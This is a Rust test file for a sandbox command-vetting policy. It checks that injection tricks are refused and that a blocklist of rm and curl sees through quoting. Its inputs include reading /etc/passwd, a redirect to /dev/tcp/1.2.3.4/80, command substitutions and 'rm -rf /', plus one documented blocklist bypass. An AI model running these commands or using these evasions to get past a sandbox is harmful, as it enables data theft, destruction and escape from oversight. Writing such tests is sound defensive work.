//! Adversarial command lines against the public `vet_command` API.

use moltmate_core::sandbox::{ExecCommand, ExecSecurity, ExecSettings};
use moltmate_sandbox::policy::{vet_command, ExecRefusal, MAX_COMMAND_BYTES};

fn settings(security: ExecSecurity) -> ExecSettings {
    ExecSettings {
        security,
        safe_bins: vec!["cat".into(), "ls".into(), "wc".into(), "grep".into()],
        vouched_bins: Vec::new(),
        blocked_bins: vec!["rm".into(), "curl".into()],
        ..ExecSettings::default()
    }
}

#[test]
fn allowlist_never_lets_shell_syntax_through() {
    let s = settings(ExecSecurity::Allowlist);
    for line in [
        "cat$IFS/etc/passwd",
        "cat ${IFS}/etc/passwd",
        "cat /etc/passwd;id",
        "cat x|&wc",
        "cat x &>/dev/tcp/1.2.3.4/80",
        "cat x\rid",
        "cat `id`",
        "cat \"`id`\"",
        "cat \"$(id)\"",
        "cat $((1+1))",
        "cat <<<x",
        "cat x 1>&2",
        "cat {a,b}",
        "cat ~root/x",
        "\u{441}at x",
        "ls\u{a0}-la",
        "/usr/bin/ls",
        "../ls",
    ] {
        let r = vet_command(line, &s);
        assert!(r.is_err(), "{line:?} was accepted as {r:?}");
    }
}

#[test]
fn pipelines_render_to_literal_words_only() {
    let s = settings(ExecSecurity::Allowlist);
    let out = vet_command("cat 'a'\\''$(id)' | grep \"`\"x | wc", &s);
    // The backtick inside double quotes is a substitution: refused.
    assert!(matches!(out, Err(ExecRefusal::Substitution(_))));
    let out = vet_command("cat 'it'\\''s $(id)' | wc -l", &s).unwrap();
    assert_eq!(
        out,
        ExecCommand::Shell("'cat' 'it'\\''s $(id)' | 'wc' '-l'".into())
    );
}

#[test]
fn size_and_emptiness() {
    for mode in [
        ExecSecurity::Allowlist,
        ExecSecurity::Blocklist,
        ExecSecurity::Full,
    ] {
        let s = settings(mode);
        assert_eq!(vet_command("", &s), Err(ExecRefusal::Empty));
        assert_eq!(vet_command(" \t ", &s), Err(ExecRefusal::Empty));
        let huge = "x".repeat(MAX_COMMAND_BYTES + 1);
        assert!(matches!(
            vet_command(&huge, &s),
            Err(ExecRefusal::TooLong { .. })
        ));
        assert!(matches!(
            vet_command("ls\0", &s),
            Err(ExecRefusal::ControlCharacter { .. })
        ));
    }
}

#[test]
fn blocklist_sees_through_quoting_tricks() {
    let s = settings(ExecSecurity::Blocklist);
    for line in [
        "r''m -rf /",
        "\"rm\" x",
        "r\\m x",
        "ls;/usr/bin/curl x",
        "sh -c \"sh -c 'rm x'\"",
    ] {
        assert_eq!(
            vet_command(line, &s),
            Err(ExecRefusal::Blocked(
                if line.contains("curl") { "curl" } else { "rm" }.into()
            )),
            "{line:?}"
        );
    }
    // A documented speed bump: names built at run time are not seen.
    assert!(vet_command("X=r; ${X}m x", &s).is_ok());
}
